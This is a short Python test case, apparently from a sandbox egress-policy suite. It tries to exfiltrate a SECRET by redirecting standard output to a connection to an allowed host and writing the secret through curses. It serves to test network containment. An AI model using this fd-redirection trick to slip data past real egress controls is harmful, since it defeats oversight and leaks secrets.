# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: curses writes by stdio to standard output, whose fd is a connection to an allowed name
# proof: word
# needs: resolver
import curses
import fcntl
import os

from attack import SECRET, at_allowed, attempt


def say(out):
    curses.setupterm("xterm", 2)
    kept = os.dup(1)
    os.close(1)
    fcntl.fcntl(out.fileno(), fcntl.F_DUPFD, 1)
    try:
        # More than a buffer of stdio holds.
        curses.putp(SECRET.encode() * 1000)
    finally:
        os.dup2(kept, 1)


@attempt
def send():
    return at_allowed(say)
